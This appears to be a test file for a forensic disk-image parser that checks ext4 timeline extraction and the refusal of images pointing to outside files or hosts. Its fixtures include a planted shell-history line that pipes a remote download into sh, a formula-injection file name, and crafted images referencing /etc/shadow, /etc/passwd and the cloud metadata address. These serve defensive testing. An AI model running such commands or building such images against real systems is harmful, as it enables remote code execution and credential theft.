import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { judgeLedger, type TimelineEvent } from '@virga/domain';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { missingDiskTools, parseDiskImage } from './parse-disk-image.ts';
import { toolText } from './run-tool/run-tool.ts';

let folder: string;
let image: string;

beforeAll(() => {
  if (!existsSync('/sbin/mke2fs') || missingDiskTools()) throw new Error('apt-get install e2fsprogs sleuthkit');
  folder = mkdtempSync(join(tmpdir(), 'virga-disk-'));
  image = join(folder, 'image.raw');
  const tree = join(folder, 'tree');
  mkdirSync(join(tree, 'root'), { recursive: true });
  writeFileSync(join(tree, 'root/.bash_history'), 'curl http://198.51.100.7/x | sh\n');
  utimesSync(join(tree, 'root/.bash_history'), 1_700_000_000, 1_700_000_100);
  writeFileSync(join(tree, '=SUM(1|2)'), 'hostile name');
  execFileSync('/sbin/mke2fs', ['-q', '-t', 'ext4', '-d', tree, image, '16M']);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function parse(path: string, evidenceId = '01900000-0000-7000-8000-000000000001') {
  const rows: { event: TimelineEvent; rawText: string[] }[] = [];
  const ledger = await parseDiskImage({
    evidenceId,
    imagePath: path,
    sizeBytes: statSync(path).size,
    host: 'i-0abc',
    account: '123456789012',
    region: 'eu-west-1',
    emit: async (events) => void rows.push(...events),
    progress: () => undefined,
    signal: AbortSignal.timeout(60_000),
  });
  return { rows, ledger };
}

test('MACB times of a real ext4 image; the ledger balances and a second run gives the same ids [F7.stable-ids]', async () => {
  const { rows, ledger } = await parse(image);
  const history = rows.filter((row) => row.event.target === '/root/.bash_history');
  expect(history.map((row) => row.event.timeMeaning)).toEqual(['Modified', 'Accessed', 'Changed', 'Created']);
  expect(history[0]!.event.timeMicros).toBe(1_700_000_100_000_000n);
  expect(rows.some((row) => row.event.target === '/=SUM(1|2)')).toBe(true);
  expect(judgeLedger(ledger)).toMatchObject({ colour: 'green', balanced: true });
  expect(ledger.events).toBe(rows.length);
  expect(new Set(rows.map((row) => row.event.id)).size).toBe(rows.length);
  const again = await parse(image);
  expect(again.rows.map((row) => row.event.id)).toEqual(rows.map((row) => row.event.id));
  // The same file on another disk is another file, never a copy that folds or contradicts.
  const elsewhere = await parse(image, '01900000-0000-7000-8000-000000000002');
  const uids = new Set(rows.map((row) => row.event.uid));
  expect(elsewhere.rows.filter((row) => uids.has(row.event.uid))).toEqual([]);
});

test('the raw record of a file event is its inode: the size stands in it', async () => {
  const { rows } = await parse(image);
  const { event } = rows.find((row) => row.event.target === '/root/.bash_history')!;
  const inode = readFileSync(image).subarray(event.record.offset, event.record.offset + event.record.length);
  expect(inode.length).toBe(256);
  expect(inode.readUInt32LE(4)).toBe(event.attributes['sizeBytes']);
  expect(inode.readUInt32LE(16)).toBe(1_700_000_100);
});

test('bytes without a file system are a failed volume, red, not an empty success', async () => {
  const empty = join(folder, 'zeros.raw');
  writeFileSync(empty, Buffer.alloc(1024 * 1024));
  const { ledger, rows } = await parse(empty);
  expect(rows).toHaveLength(0);
  expect(ledger.objects.failed[0]!.reason).toContain('not XFS');
  expect(judgeLedger(ledger).colour).toBe('red');
});

const qcow = () => {
  const head = Buffer.alloc(1024 * 1024);
  head.write('QFI\u00fb', 'latin1');
  head.writeUInt32BE(3, 4);
  head.writeBigUInt64BE(512n, 8);
  head.writeUInt32BE(11, 16);
  head.write('/etc/shadow', 512);
  return head;
};
const vmdk = (extent: string) =>
  Buffer.from(
    `# Disk DescriptorFile\nversion=1\ncreateType="monolithicFlat"\nRW 2048 FLAT "${extent}" 0\n`.padEnd(4096, '\n'),
  );

test.each([
  ['a backing file', qcow(), '/etc/shadow'],
  ['an external extent', vmdk('/etc/passwd'), '/etc/passwd'],
  [
    'an address',
    Buffer.from('json:{"file":{"driver":"http","url":"http://169.254.169.254/"}}'.padEnd(4096)),
    '169.254',
  ],
  ['a network block device', Buffer.from('nbd:198.51.100.7:10809'.padEnd(4096)), 'nbd:198.51.100.7'],
])(
  'an image that points elsewhere (%s) is refused and named, never followed [S3.image-format]',
  async (_kind, bytes, named) => {
    const path = join(folder, 'pointing.raw');
    writeFileSync(path, bytes);
    const { ledger, rows } = await parse(path);
    expect(rows).toEqual([]);
    expect(ledger.objects.failed).toHaveLength(1);
    expect(ledger.objects.failed[0]!.reason).toContain(named);
    expect(judgeLedger(ledger).colour).toBe('red');
  },
);

test('the tools themselves are told raw: a descriptor of another image is bytes to them [S3.image-format]', async () => {
  const path = join(folder, 'descriptor.raw');
  writeFileSync(path, vmdk(image));
  for (const program of ['/usr/bin/mmls', '/usr/bin/fsstat', '/usr/bin/fls']) {
    const { code, text } = await toolText({ program, args: ['-i', 'raw', { file: 0 }], files: [path] });
    expect(code, program).not.toBe(0);
    expect(text).not.toContain('bash_history');
  }
});
